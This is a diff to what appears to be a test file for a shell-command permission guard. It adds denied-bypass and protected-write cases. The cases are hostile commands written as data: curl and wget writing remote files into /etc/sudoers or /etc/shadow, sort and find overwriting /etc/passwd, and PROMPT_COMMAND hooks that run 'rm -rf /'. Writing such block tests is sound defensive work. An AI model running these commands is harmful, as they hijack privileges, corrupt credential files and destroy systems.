@@ -361,6 +361,10 @@ DENIED_BYPASSES = [
     "cd /; cd etc; rm shadow",
     "cd; rm .bash_history",
     "sed --in-place=.bak s/x/y/ /etc/passwd",
+    "curl -fsSo /etc/sudoers.d/x https://x.example/y",
+    "wget -O /etc//shadow https://x.example/y",
+    "sort -o /etc/passwd /tmp/passwd",
+    "find / -maxdepth 0 -fprintf /etc/shadow x",
     # hooks that store code the shell runs later, set indirectly
     "printf -v PROMPT_COMMAND %s 'rm -rf /'",
     "PROMPT_COMMAND+='; rm -rf /'",
@@ -1343,6 +1347,10 @@ WRITES = [
     ("ln -sf /tmp/x /etc/sudoers", ["/etc/sudoers"]),
     ("rsync -a --chmod=F440 x /etc/sudoers", ["/etc/sudoers"]),
     ("scp -t /etc/sudoers", ["/etc/sudoers"]),
+    ("find /var -maxdepth 0 -fprint /etc/sudoers", ["/etc/sudoers"]),
+    ("sort -uo /etc/sudoers x", ["/etc/sudoers"]),
+    ("curl --output=/etc/sudoers http://x", ["/etc/sudoers"]),
+    ("wget -q -O /etc/sudoers http://x", ["/etc/sudoers"]),
 ]
 
 
